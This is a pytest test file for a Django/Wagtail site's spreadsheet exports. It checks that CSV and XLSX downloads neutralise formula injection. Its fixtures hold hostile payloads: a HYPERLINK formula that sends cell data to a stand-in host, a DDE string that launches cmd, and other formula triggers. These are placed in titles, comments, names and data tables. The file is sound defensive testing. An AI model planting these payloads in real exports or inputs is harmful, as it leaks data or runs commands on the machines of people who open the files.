"""Formula injection: no CSV or XLSX the site writes carries a cell a spreadsheet would evaluate.

Each export is downloaded through its real URL by the person who would download it, after the payloads
reached it the way an insider (or a file) could put them there: a page title, approvers' comments, an
account's name, a Data table's cells and column title. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile

import pytest

from django.urls import reverse

from wagtail.models import Page

from sop_workflow.admin import compliance
from sop_workflow.models import ArsipPersetujuan
from sop_workflow.sop import ROLES, SOP_IDENTITY, STEPS, Role
from tests import factories
from tests.sop_workflow.admin_helpers import act, login, submit
from tests.sop_workflow.test_compliance_report import data, superuser  # noqa: F401  (fixtures)
from tests.sop_workflow.test_compliance_report import get as get_report
from tests.sop_workflow.test_compliance_report import login as report_login

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "klik")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)"
PLUS_ONE = "+1"
TAB = "\t=1+1"
PAYLOADS = {HYPERLINK, DDE, AT_SUM, PLUS_ONE, TAB}

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: a number as the site writes one: "-12", "-7,5" (Indonesian), "-7.5" (the Data CSV's machine form)
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")
SHORT_CHAIN = [Role.PENGELOLA, Role.WEB_ADMIN, Role.TEKMAS, Role.KABAG_HTH, Role.WEB_ADMIN]
COMMENTS = {Role.PENGELOLA: DDE, Role.TEKMAS: PLUS_ONE, Role.KABAG_HTH: AT_SUM}


def evaluated(text: str) -> bool:
    """Would a spreadsheet opening this CSV field read it as a formula?"""
    return text.startswith(TRIGGERS) and not NUMBER.fullmatch(text)


def assert_csv_safe(rows: list[list[str]]) -> list[str]:
    """No field a spreadsheet would evaluate; returns every field, for the caller's own checks."""
    fields = [field for row in rows for field in row]
    assert [field for field in fields if evaluated(field)] == []
    return fields


def assert_neutralised_in_csv(fields: list[str], payloads: set[str]) -> None:
    """Each payload is there, behind one apostrophe (OWASP), the text after it as typed."""
    for payload in payloads:
        assert "'" + payload in fields, payload
        assert payload not in fields, payload


def assert_xlsx_safe(content: bytes, payloads: set[str]):
    """No formula cell; text that begins like one is a text cell with Excel's quote prefix (what Excel sets
    when someone types '=1), showing exactly the typed text, which stays text even when the cell is edited."""
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    risky = [cell for cell in cells if isinstance(cell.value, str) and evaluated(cell.value)]
    assert [(cell.coordinate, cell.value) for cell in risky if not cell.quotePrefix] == []
    assert [cell.data_type for cell in risky] == ["s"] * len(risky)
    shown = {cell.value for cell in risky}
    assert payloads <= shown, payloads - shown
    return sheet


# --- the approval archive ------------------------------------------------------------------------
@pytest.fixture
def archived(home_page, sop_users) -> ArsipPersetujuan:
    """A berita titled with a HYPERLINK formula, published through the short chain by approvers whose
    comments are payloads; the web admin's account name (set in the Users admin) is one too."""
    web_admin = sop_users[Role.WEB_ADMIN]
    web_admin.first_name = AT_SUM
    web_admin.save()
    index = factories.BeritaIndexPageFactory(parent=home_page)
    page = factories.BeritaPageFactory(parent=index, title=HYPERLINK, owner=sop_users[Role.PENGAMPU])
    page.unpublish()
    page.save_revision(user=sop_users[Role.PENGAMPU])
    assert submit(login(sop_users[Role.PENGAMPU]), page).status_code == 302
    for role in SHORT_CHAIN:
        response = act(login(sop_users[role]), page, "approve", comment=COMMENTS.get(role, "oke"))
        assert response.status_code == 302
    assert Page.objects.get(pk=page.pk).live
    record = ArsipPersetujuan.objects.get()
    assert record.title == HYPERLINK
    return record


def read_csv(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def test_archive_record_csv_neutralises_title_comments_and_names(archived, sop_users):
    response = login(sop_users[Role.SEKRETARIS]).get(reverse("sop_arsip:csv", args=[archived.pk]))
    assert response.status_code == 200
    rows = read_csv(response.content.decode("utf-8"))
    fields = assert_csv_safe(rows)
    assert_neutralised_in_csv(fields, {HYPERLINK, DDE, PLUS_ONE, AT_SUM})
    steps = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {step["Judul"] for step in steps} == {"'" + HYPERLINK}
    assert [step["No. arsip"] for step in steps] == [str(archived.sequence)] * len(steps)


def test_archive_zip_index_csv_neutralises_the_title_and_publisher(archived, sop_users):
    response = login(sop_users[Role.KABAG_HTH]).get(reverse("sop_arsip:zip"))
    assert response["Content-Type"] == "application/zip"
    index_csv = zipfile.ZipFile(io.BytesIO(response.content)).read("index.csv").decode("utf-8")
    rows = read_csv(index_csv)
    fields = assert_csv_safe(rows)
    assert_neutralised_in_csv(fields, {HYPERLINK})
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Judul"] == "'" + HYPERLINK
    assert row["Diterbitkan oleh"] == f"'{AT_SUM} (webadmin)"
    assert row["ID halaman"] == str(archived.page_id)


def test_archive_list_csv_neutralises_title_and_publisher(archived, sop_users):
    response = login(sop_users[Role.PENGELOLA]).get(reverse("sop_arsip:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content).decode("utf-8"))
    fields = assert_csv_safe(rows)
    assert_neutralised_in_csv(fields, {HYPERLINK, AT_SUM})
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Judul"], row["Diterbitkan oleh"]) == ("'" + HYPERLINK, "'" + AT_SUM)
    assert row["No. arsip"] == str(archived.sequence)


def test_archive_list_xlsx_keeps_the_typed_text_as_text_and_numbers_as_numbers(archived, sop_users):
    response = login(sop_users[Role.PENGELOLA]).get(reverse("sop_arsip:index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = assert_xlsx_safe(b"".join(response.streaming_content), {HYPERLINK, AT_SUM})
    headings = [cell.value for cell in sheet[1]]
    row = sheet[2]
    assert row[headings.index("Judul")].value == HYPERLINK  # no apostrophe added to the visible text
    sequence = row[headings.index("No. arsip")]
    assert (sequence.value, sequence.data_type) == (archived.sequence, "n")


# --- the Kepatuhan SOP report --------------------------------------------------------------------
@pytest.fixture
def crafted_labels(monkeypatch):
    """The report shows only the SOP's own words (step names, role names, the SOP number, all declared in
    code), so no editor's text reaches it; a future change could let one in. Craft them."""
    for key, name in (("terima", HYPERLINK), ("validasi", TAB), ("tekmas", PLUS_ONE), ("kabag", DDE)):
        monkeypatch.setitem(STEPS, key, dataclasses.replace(STEPS[key], name=name))
    monkeypatch.setitem(ROLES, Role.TEKMAS, dataclasses.replace(ROLES[Role.TEKMAS], group_name=AT_SUM))
    monkeypatch.setattr(compliance, "SOP_IDENTITY", dataclasses.replace(SOP_IDENTITY, number=HYPERLINK))


def test_kepatuhan_csv_neutralises_crafted_step_role_and_preamble_text(data, superuser, crafted_labels):  # noqa: F811
    response = get_report(report_login(superuser), "?kind=artikel&export=csv")
    assert response.status_code == 200
    rows = read_csv(b"".join(response.streaming_content).decode("utf-8"), delimiter=";")
    fields = assert_csv_safe(rows)
    assert_neutralised_in_csv(fields, PAYLOADS)
    terima = next(row for row in rows if row[1:2] == ["2"])
    assert terima[2] == "'" + HYPERLINK
    assert terima[4:] == ["8", "4,5", "7,1", "469,0", "5", "5", "87,5", "0"]  # numbers as before


def test_kepatuhan_xlsx_has_no_formula_and_keeps_numbers(data, superuser, crafted_labels):  # noqa: F811
    response = get_report(report_login(superuser), "?kind=artikel&export=xlsx")
    assert response.status_code == 200
    sheet = assert_xlsx_safe(b"".join(response.streaming_content), PAYLOADS)
    # the SOP number, in the lines before the table: appended as a plain value, openpyxl made it a formula
    assert (sheet["B3"].value, sheet["B3"].data_type) == (HYPERLINK, "s")
    terima = next(row for row in sheet.iter_rows() if row[1].value == 2)
    assert terima[2].value == HYPERLINK
    assert [cell.value for cell in terima[4:]] == [8, 4.5, 7.1, 469.0, 5, 5, 87.5, 0]
    assert [cell.data_type for cell in terima[4:]] == ["n"] * 8


# --- the public Data page ------------------------------------------------------------------------
DATA_CSV = (
    "Wilayah;Keterangan;+/- (%)\n"
    f'Kota Semarang;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";-7,5\n'
    f"Kab. Cilacap;{DDE};-12\n"
    f"33.72;{AT_SUM};3\n"
    f"Kota Salatiga;{PLUS_ONE};1.234,5\n"
)


def test_public_data_csv_neutralises_text_cells_and_keeps_negative_numbers(client, home_page):
    index = factories.DataIndexPageFactory(parent=home_page)
    table = factories.data_table("Perubahan pemilih", factories.data_document(DATA_CSV, "perubahan.csv"))
    assert table.data["numeric"] == [False, False, True]
    page = factories.DataPageFactory(parent=index, title="Perubahan DPT", tables=[table])
    response = client.get(page.url + "unduh/1.csv")  # anyone on the public site
    assert response.status_code == 200
    rows = read_csv(response.content.decode("utf-8"))
    assert_csv_safe(rows)
    assert rows == [
        ["Wilayah", "Keterangan", "'+/- (%)"],
        ["Kota Semarang", "'" + HYPERLINK, "-7.5"],
        ["Kabupaten Cilacap", "'" + DDE, "-12"],
        ["Kota Surakarta", "'" + AT_SUM, "3"],
        ["Kota Salatiga", "'" + PLUS_ONE, "1234.5"],
    ]


# --- the rule itself -----------------------------------------------------------------------------
@pytest.mark.parametrize(
    "text",
    [HYPERLINK, DDE, AT_SUM, PLUS_ONE, TAB, "\r=1+1", "-", "-1+1", "-1e5", "+7,5", "=1", "@"],
)
def test_text_a_spreadsheet_would_evaluate_gets_one_apostrophe(text):
    from kpu_site.spreadsheet_safety import csv_cell

    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12", "-7,5", "-7.5", "-1.234,5", "12", "Kota Semarang", " =1", "", None, 0, -12, -7.5]
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    from kpu_site.spreadsheet_safety import csv_cell

    assert csv_cell(value) == value


def test_kepatuhan_rows_keep_a_negative_decimal_a_number_in_csv_and_xlsx():
    """The report's own row writers, on a row with a negative figure beside a crafted step name."""
    from openpyxl import Workbook, load_workbook

    from wagtail.admin.views.mixins import Echo

    view = compliance.ComplianceReportView()
    row = {"step_name": HYPERLINK, "median_office_minutes": -7.5, "count": -12}
    writer = csv.DictWriter(Echo(), fieldnames=list(row), delimiter=";")
    line = view.write_csv_row(writer, row).decode()
    assert read_csv(line, delimiter=";") == [["'" + HYPERLINK, "-7,5", "-12"]]

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet()
    worksheet.append(view.generate_xlsx_row(worksheet, row))
    output = io.BytesIO()
    workbook.save(output)
    cells = next(load_workbook(output).active.iter_rows())
    assert [(cell.value, cell.data_type, cell.quotePrefix) for cell in cells] == [
        (HYPERLINK, "s", True),
        (-7.5, "n", False),
        (-12, "n", False),
    ]
